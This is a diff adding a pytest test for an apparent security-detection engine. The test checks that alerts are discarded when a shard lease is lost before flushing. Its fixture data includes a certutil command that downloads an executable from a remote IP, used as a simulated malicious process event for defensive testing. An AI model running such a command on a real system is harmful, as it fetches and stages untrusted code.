@@ -0,0 +1,27 @@
+import pytest
+from conftest import add_process
+
+from sharding import LeaseLost
+
+CERTUTIL = r"C:\Windows\System32\certutil.exe"
+CMD = "certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe"
+
+
+def test_lease_lost_forgets_dropped_groups(memory_db, make_analyzer):
+    memory_db.owners["shard-0"] = "worker-a"
+    engine = make_analyzer(memory_db, consumer="shard-0")
+    engine.alerts.owner = "worker-a"
+    for second in range(2):
+        add_process(memory_db, "WS-0001", 300 + second, 200, CERTUTIL, CMD, utc=f"2026-01-25 03:00:0{second}")
+    first, second = engine.fetch_new_events(0)
+
+    engine.analyze_batch([first])
+    memory_db.owners["shard-0"] = "worker-b"  # taken over before the flush
+    with pytest.raises(LeaseLost):
+        engine.flush_alerts()
+    assert not memory_db.alerts
+
+    memory_db.owners["shard-0"] = "worker-a"  # and handed back within the aggregation window
+    engine.analyze_batch([second])
+    engine.flush_alerts()
+    assert len(memory_db.alerts) == 1